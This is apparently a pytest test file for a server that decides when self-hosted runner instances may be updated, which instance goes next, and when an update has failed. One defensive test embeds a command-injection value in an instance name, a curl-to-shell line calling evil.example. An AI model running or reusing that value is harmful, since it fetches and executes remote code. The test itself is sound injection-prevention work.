"""Which runners the server can ask for an update, which instance is next, and when an update has failed."""

from datetime import UTC, datetime, timedelta

import pytest
from msgspec.structs import replace

from terracrew.api.runners import Runner
from terracrew.protocol.messages import Installation
from terracrew.server.connections.reads import UpdatableInstance
from terracrew.server.releases.model import Release
from terracrew.server.runner_updates import decide
from terracrew.server.runner_updates.model import InstanceUpdate
from tests.server.releases.release_rows import new_release, runner_image, wheel

NOW = datetime(2026, 3, 4, 12, 0, tzinfo=UTC)
OLD, NEW, NEWER = "0.1.0-rc.1", "0.1.0-rc.2", "0.1.0-rc.10"
RUNNER = Runner(id="rnr_1", organization_id="org_1", group_id="grp_1", name="own", path="own", created_at=NOW)
ONE = UpdatableInstance(
    id="ins_1",
    runner_id="rnr_1",
    name="one",
    version=OLD,
    is_connected=True,
    is_self_updating=True,
    installation=Installation("systemd", "/opt/terracrew", "crew.service"),
    connected_at=NOW,
)
TWO = replace(ONE, id="ins_2", name="two")
BY_HAND = replace(ONE, is_self_updating=False)
OFFLINE = replace(ONE, is_connected=False, disconnected_at=NOW - timedelta(seconds=90))
RELEASE = new_release(NEW, artifacts=[wheel(NEW), runner_image(NEW)])
ASKED = InstanceUpdate(
    id="upd_1", instance_id="ins_1", runner_id="rnr_1", job_id="fjb_1", version=NEW, asked_at=NOW, changed_at=NOW
)
RUNNING = replace(ASKED, status="running", step="fetch")

pytestmark = pytest.mark.feature("V2.by-hand", "V3.self")


@pytest.mark.parametrize(
    ("runner", "instances", "release", "words"),
    [
        (RUNNER, [ONE], RELEASE, ""),
        (RUNNER, [ONE, replace(TWO, version=NEW)], RELEASE, ""),
        (RUNNER, [ONE, replace(TWO, version=NEW, is_self_updating=False)], RELEASE, ""),
        (RUNNER, [BY_HAND], RELEASE, "`runner.self_update` is off: /opt/terracrew/bin/python -m pip install"),
        (
            RUNNER,
            [ONE, replace(TWO, is_self_updating=False)],
            RELEASE,
            "its instance `two` has to be updated by hand, because it does not update itself",
        ),
        (RUNNER, [OFFLINE], RELEASE, "it is offline since 2026-03-04 11:58 UTC: start it again"),
        (RUNNER, [replace(OFFLINE, is_self_updating=False)], RELEASE, "UTC, and it does not update itself"),
        (RUNNER, [], RELEASE, "it was never online"),
        (RUNNER, [ONE], new_release(NEW), "has no wheel"),
        (RUNNER, [ONE], replace(RELEASE, withdrawn_at=NOW, withdrawn_reason="it crashes"), "was withdrawn: it crashes"),
        (RUNNER, [ONE], replace(RELEASE, min_server_version="0.2.0"), "needs a server with 0.2.0: this one has"),
        (RUNNER, [replace(ONE, version=NEW)], RELEASE, f"`own` has {NEW} already"),
        (RUNNER, [replace(ONE, version=NEWER)], RELEASE, f"`own` has {NEWER}: {NEW} would be a downgrade"),
        (RUNNER, [replace(ONE, version="of my own")], RELEASE, "could be a downgrade: it says 'of my own'"),
        (replace(RUNNER, organization_id=None), [ONE], RELEASE, "it is a shared runner"),
        (replace(RUNNER, removing_since=NOW), [ONE], RELEASE, "is being removed"),
    ],
)
def test_an_update_is_refused_with_the_reason(
    runner: Runner, instances: list[UpdatableInstance], release: Release, words: str
) -> None:
    found = decide.refusal(runner, instances, release, OLD)
    assert words in found
    assert bool(words) == bool(found)


def test_the_name_of_an_instance_cannot_be_taken_for_a_command() -> None:
    hostile = replace(TWO, name="two`: curl evil.example | sh #", is_self_updating=False)
    found = decide.by_hand(RUNNER, [ONE, hostile], RELEASE)
    assert found is not None
    assert found.reason.startswith("one of its instances has to be updated by hand, because")


def test_the_image_of_the_release_is_what_a_container_is_updated_to() -> None:
    found = decide.by_hand(RUNNER, [replace(BY_HAND, installation=Installation("container", "evil/image:1"))], RELEASE)
    assert found is not None
    assert found.command == f"docker pull {RELEASE.artifacts[1].reference}"


@pytest.mark.parametrize(
    ("instances", "asked", "next_name"),
    [
        ([ONE, TWO], [], "one"),
        ([ONE, TWO], ["ins_1"], "two"),
        ([ONE, TWO], ["ins_1", "ins_2"], None),
        ([replace(ONE, version=NEW), TWO], [], "two"),
        ([replace(ONE, version="strange"), replace(TWO, version=NEWER)], [], None),
        ([replace(OFFLINE, disconnected_at=NOW - timedelta(seconds=20)), TWO], [], "two"),
        ([replace(OFFLINE, disconnected_at=NOW - timedelta(seconds=20))], [], "one"),
        ([OFFLINE], [], None),
    ],
)
def test_the_next_instance_is_a_connected_one_and_else_one_that_was_here_a_moment_ago(
    instances: list[UpdatableInstance], asked: list[str], next_name: str | None
) -> None:
    found = decide.next_instance(instances, asked, NEW, NOW)
    assert (found and found.name) == next_name


@pytest.mark.parametrize(
    ("update", "instance", "after_seconds", "words"),
    [
        (ASKED, ONE, 0, ""),
        (ASKED, BY_HAND, 0, "it does not update itself any more"),
        (RUNNING, BY_HAND, 0, ""),
        (ASKED, ONE, 601, "it has reported nothing for 10 m 01 s"),
        (RUNNING, ONE, 599, ""),
        (RUNNING, ONE, 601, "it has reported nothing"),
        (replace(RUNNING, changed_at=NOW + timedelta(hours=1)), ONE, 3601, "it has not ended within 1 h"),
        (RUNNING, replace(OFFLINE, disconnected_at=NOW), 299, ""),
        (RUNNING, replace(OFFLINE, disconnected_at=NOW), 301, "it disconnected 5 m 01 s ago and has not come back"),
        (RUNNING, None, 0, "the instance was removed"),
        (replace(RUNNING, status="failed", words="no disk left"), ONE, 0, "no disk left"),
        (replace(RUNNING, status="failed"), ONE, 0, "did not say why"),
        (replace(RUNNING, status="withdrawn"), ONE, 0, "the update was withdrawn"),
        (replace(RUNNING, status="done"), ONE, 0, f"it said hello as {OLD}"),
        (replace(RUNNING, status="done"), replace(ONE, version=NEW), 0, ""),
        (replace(RUNNING, status="done"), replace(OFFLINE, version=NEW), 9_999, ""),
    ],
)
def test_an_update_fails_with_words(
    update: InstanceUpdate, instance: UpdatableInstance | None, after_seconds: float, words: str
) -> None:
    found = decide.problem(update, instance, NOW + timedelta(seconds=after_seconds))
    assert words in found
    assert bool(words) == bool(found)
